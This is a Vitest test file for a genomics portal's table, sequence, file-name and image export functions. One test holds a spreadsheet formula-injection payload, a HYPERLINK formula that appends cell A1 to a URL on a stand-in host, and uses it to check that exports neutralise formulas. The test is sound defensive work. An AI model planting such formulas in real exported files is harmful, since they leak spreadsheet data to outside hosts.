import { describe, expect, it } from 'vitest'
import { type Receipt, receiptLines, receiptNote } from '../../../contracts/tools/receipt.ts'
import { readXlsx, readZip } from '../../../testing/strict-reader.ts'
import { fileName, pngScaleOf, renderCsv, renderFasta, renderTsv, renderWorkbook } from './export.ts'

const receipt: Receipt = {
  tool: 'blast',
  portalVersion: '0.1.0',
  startedAt: '2026-01-02T03:04:05Z',
  elapsedMs: 811.6,
  steps: [{ program: 'blastn', version: '2.12.0+', command: ['blastn', '-query', 'my query.fa', '-evalue', '1e-5'] }],
  data: [{ assembly: 'R64', bundle: 'b1', checksum: 'abc' }],
  parameters: { evalue: 1e-5, query: 'A'.repeat(3000) },
  citations: [{ text: 'Camacho et al. 2009', doi: '10.1186/1471-2105-10-421' }],
}

describe('exports of a table', () => {
  it('keeps p-values unrounded and cells apart when they hold tabs', () => {
    expect(
      renderTsv({
        columns: ['gene', 'p'],
        rows: [
          ['a\tb', 1.23456789e-300],
          [null, 0],
        ],
      }),
    ).toBe('gene\tp\na b\t1.23456789e-300\n\t0\n')
  })

  it('quotes what RFC 4180 asks to quote', () => {
    expect(renderCsv({ columns: ['gene', 'description'], rows: [['a', 'kinase, "putative"']] })).toBe(
      '\ufeffgene,description\r\na,"kinase, ""putative"""\r\n',
    )
  })

  const hostile = '=HYPERLINK("http://example.org/?"&A1,"abcA")'

  it('computes nothing that a name says, in any format, and keeps numbers numbers', async () => {
    const sheet = { columns: ['gene', 'log2'], rows: [[hostile, -1.5e-8]] }
    expect(renderTsv(sheet)).toBe(`gene\tlog2\n'${hostile}\t-1.5e-8\n`)
    expect(renderCsv(sheet)).toBe(`\ufeffgene,log2\r\n"'${hostile.replaceAll('"', '""')}",-1.5e-8\r\n`)
    const { default: writeXlsxFile } = await import('write-excel-file/node')
    const bytes = await writeXlsxFile(renderWorkbook(sheet, 'en-US').pages).toBuffer()
    expect(readXlsx(bytes)).toEqual([
      [
        ['gene', 'log2'],
        [hostile, '-1.5e-8'],
      ],
    ])
    const xml = readZip(bytes).get('xl/worksheets/sheet1.xml')?.toString('utf8')
    // A computed cell would have an element f, and a number written as text a type.
    expect(xml).not.toMatch(/<f[ >]/)
    expect(xml).toMatch(/<c r="B2"(?![^>]* t=)[^>]*><v>/)
  })

  it('says of a workbook how many of its cells are cut', () => {
    const { pages, cutCells } = renderWorkbook(
      { columns: ['genes'], rows: [['A'.repeat(40_000)], ['B']], receipt },
      'en-US',
    )
    expect(cutCells).toBe(1)
    expect(pages[1]?.data[0]?.[0]?.value).toMatch(/^1 cell exceeds the Excel limit of 32,767 characters/)
    expect(renderWorkbook({ columns: ['genes'], rows: [['B']] }, 'zh-CN')).toMatchObject({ cutCells: 0, pages: [{}] })
  })

  it('carries the receipt as comment lines before the head', () => {
    const lines = renderTsv({ columns: ['gene'], rows: [], receipt }).split('\n')
    expect(lines[0]).toBe('# NovoDB 0.1.0, tool blast, 2026-01-02T03:04:05Z, 812 ms')
    expect(lines).toContain("# blastn 2.12.0+: blastn -query 'my query.fa' -evalue 1e-5")
    expect(lines.at(-2)).toBe('gene')
  })

  it('names a pasted sequence in the receipt by its length instead of repeating it', () => {
    expect(receiptLines(receipt).find((line) => line.startsWith('parameters'))).toMatch(/A… \(3000 characters\)/)
  })
})

describe('exports of sequences', () => {
  it('breaks FASTA at 60 residues without an empty last line', () => {
    const lines = renderFasta([{ header: 'a', sequence: 'A'.repeat(120) }], receipt).split('\n')
    expect(lines.slice(1).map((line) => line.length)).toEqual([60, 60, 0])
    expect(lines[0]).toBe(`>a ${receiptNote(receiptLines(receipt))}`)
  })
})

describe('names of files', () => {
  it('keeps Chinese words and drops what file systems dislike', () => {
    expect(fileName('基因 结构', 'H37Rv/Rv3875:1')).toBe('基因-结构-h37rv-rv3875-1')
  })
})

describe('images of figures', () => {
  it('are three pixels a CSS pixel, and fewer where a figure of thousands of rows would not fit a canvas', () => {
    expect(pngScaleOf(960, 540)).toBe(3)
    expect(pngScaleOf(1200, 20_000) * 20_000).toBe(16_384)
    expect(pngScaleOf(0, 0)).toBe(3)
  })
})
